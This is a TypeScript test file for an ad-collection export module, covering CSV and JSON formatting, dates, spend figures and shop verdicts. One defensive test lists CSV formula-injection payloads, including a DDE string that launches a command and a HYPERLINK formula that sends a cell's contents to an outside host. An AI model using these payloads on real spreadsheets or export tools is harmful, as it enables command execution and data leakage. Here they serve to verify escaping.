import { expect, test } from 'vitest';
import { aVerdict } from '#tests/support/builders/a-verdict.ts';
import { anAd } from '#tests/support/builders/an-ad.ts';
import { aSnapshot } from '#tests/support/builders/followed-pages.ts';
import { csvExport, jsonExport, ExportedAd } from './ad-export.ts';

const NOW = Date.UTC(2026, 10, 21, 12);
const exported = (facts: Parameters<typeof anAd>[0] = {}, more: Partial<ExportedAd> = {}): ExportedAd => ({
  ad: anAd(facts),
  why: 'saved',
  capturedAt: Date.UTC(2026, 0, 5),
  savedAt: null,
  reach: [],
  ...more,
});
const csvOf = (...ads: ExportedAd[]): string => {
  const writer = csvExport(NOW);
  return writer.head(NOW) + writer.ads(ads, true) + writer.tail(ads.length);
};
/** Returns the cells of one row by column. Values with commas or quotes are not supported. */
const cellsOf = (csv: string): Map<string, string | undefined> => {
  const [head = '', line = ''] = csv.slice(1).split('\r\n');
  const values = line.split(',');
  return new Map(head.split(',').map((name, index) => [name, values[index]]));
};

test('writes a table with a byte order mark and with dates and times in ISO 8601', () => {
  const cells = cellsOf(
    csvOf(exported({ isActive: false, endDate: 1_767_945_600 }, { savedAt: Date.UTC(2026, 1, 3, 4, 5) })),
  );
  expect(csvOf().startsWith('\ufeffad_id,')).toBe(true);
  expect(cells.get('start_date')).toBe('2026-01-02');
  expect(cells.get('end_date')).toBe('2026-01-09');
  expect(cells.get('bookmarked_at')).toBe('2026-02-03T04:05:00.000Z');
  expect(cells.get('captured_at')).toBe('2026-01-05T00:00:00.000Z');
});

test.each([
  ['true', {}],
  ['false', { isActive: false }],
  ['unknown', { isActive: false, runState: 'unknown' as const }],
])('writes %s for the run %j, and no figure per day if it is unknown', (cell, run) => {
  const ad = exported({ endDate: null, ...run }, { reach: [aSnapshot(NOW - 1_000, { euTotal: 1_000 })] });
  const cells = cellsOf(csvOf(ad));
  expect([cells.get('is_active'), cells.get('end_date'), cells.get('spend_eur')]).toEqual([cell, '', '9.00']);
  expect(cells.get('spend_per_day_eur') === '').toBe(cell !== 'true');
});

test('reads an unknown run again from JSON, and an ad of an older file without this field', () => {
  const ads = [exported({ isActive: false, runState: 'unknown' }), exported()];
  const text = jsonExport.head(NOW) + jsonExport.ads(ads, true) + jsonExport.tail(2);
  const read = JSON.parse(text) as { ads: unknown[] };
  expect(read.ads.map((ad) => ExportedAd.parse(ad))).toEqual(ads);
});

test('writes the verdict on the shop with its reasons as codes, and empty cells without one', () => {
  const cells = cellsOf(csvOf(exported({}, { store: aVerdict() })));
  expect([cells.get('shopify'), cells.get('dropshipping')]).toEqual(['strong', 'strong']);
  expect(cells.get('store_reasons')).toBe(
    'meta tidy.myshopify.com; path products; one-product 3; same-creative 2; name-unlike Tidy Kitchen',
  );
  expect(cells.get('store_found_at')).toBe('2026-01-15T12:00:00.000Z');
  expect(cellsOf(csvOf(exported())).get('shopify')).toBe('');
});

test('writes an empty cell without a measurement, and money with two decimals', () => {
  const none = cellsOf(csvOf(exported()));
  expect([none.get('eu_reach'), none.get('spend_eur'), none.get('spend_per_day_eur')]).toEqual(['', '', '']);
  const measured = cellsOf(csvOf(exported({}, { reach: [aSnapshot(NOW - 1_000, { euTotal: 1_234_567 })] })));
  expect(measured.get('eu_reach')).toBe('1234567');
  expect(measured.get('spend_eur')).toBe('11111.10');
});

test.each([
  '=cmd|"/C calc"!A0',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=HYPERLINK("https://example.com?x="&A1)',
  '＝1+1',
  "'=1+1",
  '=1+1";=1+1',
])('writes no formula for %j in any cell', (text) => {
  const csv = csvOf(exported({ text, title: text, pageName: text, linkDescription: text, ctaText: text }));
  const line = csv.slice(csv.indexOf('\r\n') + 2, -2);
  const cells = [...line.matchAll(/(?:"((?:[^"]|"")*)"|([^",]*))(?:,|$)/g)].map(
    ([, quoted, plain]) => quoted ?? plain ?? '',
  );
  expect(cells.filter((cell) => /^[=+\-@\t\r\n＝]/.test(cell))).toEqual([]);
  expect(
    cells.filter((cell) => cell.replaceAll('""', '"').replaceAll(/(?<=[;\t\r\n])'/g, '') === `'${text}`),
  ).toHaveLength(5);
});

test('writes one JSON object in any number of pieces', () => {
  const [one, two] = [exported({ id: '1000001' }), exported({ id: '1000002', text: '\u2028"\\' })];
  const text = jsonExport.head(NOW) + jsonExport.ads([one], true) + jsonExport.ads([two], false) + jsonExport.tail(2);
  expect(JSON.parse(text)).toEqual({
    format: 'ad-collection',
    version: 2,
    exportedAt: '2026-11-21T12:00:00.000Z',
    ads: [one, two],
    count: 2,
  });
  expect(JSON.parse(jsonExport.head(NOW) + jsonExport.ads([], true) + jsonExport.tail(0))).toMatchObject({ ads: [] });
});
